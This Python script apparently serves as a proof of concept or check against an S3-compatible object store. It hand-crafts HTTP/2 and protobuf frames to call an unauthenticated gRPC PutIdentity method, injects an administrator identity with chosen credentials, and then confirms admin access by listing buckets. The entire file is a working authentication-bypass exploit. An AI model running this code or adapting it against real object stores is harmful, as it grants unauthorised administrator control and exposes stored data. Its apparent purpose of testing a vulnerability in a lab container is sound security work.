"""Try to become an administrator of the object store by its gRPC port, without any key. Run in a container beside it.

Prints the code with which S3 answers a request with the key that was to be added. Fails when the port does not answer.
"""

from __future__ import annotations

import socket
import struct

import botocore.session
from botocore.exceptions import ClientError

HOST, S3, GRPC = "objects", 8333, 18333
PATH = b"/messaging_pb.SeaweedS3IamCache/PutIdentity"
HEADERS, DATA, SETTINGS = 1, 0, 4
END_STREAM, END_HEADERS = 1, 4


def field(number: int, value: bytes) -> bytes:
    """A field of a message of protobuf."""
    return bytes([number << 3 | 2, len(value)]) + value


def text(value: bytes) -> bytes:
    return bytes([len(value)]) + value


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def put_identity(key: bytes, secret: bytes) -> None:
    """Ask for it, and return when the answer is complete."""
    credentials = field(1, key) + field(2, secret)
    message = field(1, field(1, b"admin") + field(2, credentials) + field(3, b"Admin"))
    headers = b"\x83\x86\x04" + text(PATH) + b"\x01" + text(HOST.encode())  # POST, http, :path, :authority
    headers += b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers")
    call = frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, headers)
    call += frame(DATA, END_STREAM, 1, b"\0" + struct.pack(">I", len(message)) + message)
    with socket.create_connection((HOST, GRPC), timeout=20) as connection, connection.makefile("rb") as answer:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + call)
        while head := answer.read(9):
            answer.read(int.from_bytes(head[:3], "big"))
            if head[3] == HEADERS and head[4] & END_STREAM:
                return
    raise ConnectionError("the port gave no answer")


def main() -> None:
    put_identity(b"an-admins-key", b"an-admins-secret")
    client = botocore.session.get_session().create_client(
        "s3",
        endpoint_url=f"http://{HOST}:{S3}",
        aws_access_key_id="an-admins-key",
        aws_secret_access_key="an-admins-secret",
        region_name="us-east-1",
    )
    try:
        client.list_buckets()
        print("OK")
    except ClientError as error:
        print(error.response["Error"]["Code"])


main()
